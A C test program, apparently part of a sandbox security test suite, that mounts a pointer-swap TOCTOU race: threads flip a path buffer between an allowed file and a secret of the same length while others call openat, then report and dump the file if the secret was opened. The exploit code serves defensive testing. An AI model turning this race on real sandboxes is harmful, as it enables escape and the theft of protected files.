/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * R01: the pointer-swap TOCTOU (syd-poc style). Thread A loops openat(AT_FDCWD, buf, O_RDONLY)
 * while thread B flips the same buffer between GOOD (a path the sandbox may open: on the floor,
 * or granted by an approver) and SECRET (a path of the same length naming the secret, or a
 * hardlink of it). Whatever the supervisor read, the object opened must never be the secret.
 *
 * usage: R01-path-swap GOOD SECRET [SECONDS]
 *	SECRET's (dev, inode) is taken with stat(), which no sandbox restricts; an fd on that
 *	object is a leak, and what it reads is printed.
 * Positive controls: GOOD opens before the race, and the race produced both outcomes (opens of
 * GOOD, denials of SECRET). Run bare, the secret is read: exit 1.
 */
#include <pthread.h>
#include <stdatomic.h>
#include <time.h>

#include "attack.h"

static char buf[PATH_MAX];
static char good[PATH_MAX], secret[PATH_MAX];
static size_t len;
static atomic_bool stop;
static atomic_ulong flips;
static struct stat secret_st;
static char good_content[256];
static ssize_t good_len;

static double now_s(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy(buf, secret, len);
		__asm__ volatile("" ::: "memory"); /* both stores happen */
		memcpy(buf, good, len);
		__asm__ volatile("" ::: "memory");
		atomic_fetch_add_explicit(&flips, 1, memory_order_relaxed);
	}
	return NULL;
}

struct tally {
	unsigned long opened_good, denied, enoent, other, odd;
	int other_errno;
};

static void *opener(void *arg)
{
	struct tally *t = arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		int fd = openat(AT_FDCWD, buf, O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
		if (fd < 0) {
			if (errno == EACCES || errno == EPERM)
				t->denied++;
			else if (errno == ENOENT || errno == ENOTDIR)
				t->enoent++; /* a torn read of the buffer: half of each path */
			else {
				t->other++;
				t->other_errno = errno;
			}
			continue;
		}
		struct stat st;
		char data[256];
		ssize_t n = pread(fd, data, sizeof(data), 0);
		if (fstat(fd, &st) == 0 && same_inode(&st, &secret_st)) {
			attack_leak("opened the secret's object through the swapped buffer");
			dump_fd(fd);
			close(fd);
			atomic_store(&stop, true);
			break;
		}
		if (n != good_len || memcmp(data, good_content, (size_t)n) != 0) {
			/* Another object: a torn path that happens to exist. Show it. */
			if (t->odd++ < 3) {
				attack_note("opened something else (inode %llu):",
					    (unsigned long long)st.st_ino);
				dump_fd(fd);
			}
		} else {
			t->opened_good++;
		}
		close(fd);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 3)
		attack_usage("R01-path-swap GOOD SECRET [SECONDS]");
	double seconds = argc > 3 ? atof(argv[3]) : 1.5;
	snprintf(good, sizeof(good), "%s", argv[1]);
	snprintf(secret, sizeof(secret), "%s", argv[2]);
	len = strlen(good) + 1;
	if (strlen(secret) + 1 != len)
		attack_usage("GOOD and SECRET must have the same length");
	if (stat(secret, &secret_st) < 0)
		attack_not_applicable("stat %s: %s", secret, ename(errno));

	/* Positive control: GOOD opens (the first time, an approver may be asked). */
	int fd = open(good, O_RDONLY | O_CLOEXEC);
	control("open GOOD before the race", fd < 0 ? errno : 0);
	if (fd < 0)
		return attack_finish();
	good_len = read(fd, good_content, sizeof(good_content));
	close(fd);
	/* And SECRET, unraced, is refused (or read: the bare control). */
	must_not_read("open SECRET before the race", secret);

	memcpy(buf, good, len);
	pthread_t fl, op[2];
	struct tally t[2] = { { 0 } };
	pthread_create(&fl, NULL, flipper, NULL);
	for (int i = 0; i < 2; i++)
		pthread_create(&op[i], NULL, opener, &t[i]);
	double end = now_s() + seconds;
	while (!atomic_load(&stop) && now_s() < end) {
		struct timespec ts = { 0, 20 * 1000 * 1000 };
		nanosleep(&ts, NULL);
	}
	atomic_store(&stop, true);
	for (int i = 0; i < 2; i++)
		pthread_join(op[i], NULL);
	pthread_join(fl, NULL);

	struct tally sum = { 0 };
	for (int i = 0; i < 2; i++) {
		sum.opened_good += t[i].opened_good;
		sum.denied += t[i].denied;
		sum.enoent += t[i].enoent;
		sum.other += t[i].other;
		sum.odd += t[i].odd;
		if (t[i].other_errno)
			sum.other_errno = t[i].other_errno;
	}
	attack_note("%lu flips; GOOD opened %lu times, denied %lu, torn ENOENT %lu, other objects "
		    "%lu, other errors %lu (%s)",
		    (unsigned long)atomic_load(&flips), sum.opened_good, sum.denied, sum.enoent,
		    sum.odd, sum.other, ename(sum.other_errno));
	if (!attack_leaks) {
		control("the race opened GOOD at least once", sum.opened_good ? 0 : ENOENT);
		control("the race met SECRET at least once (a denial)", sum.denied ? 0 : ENOENT);
	}
	return attack_finish();
}
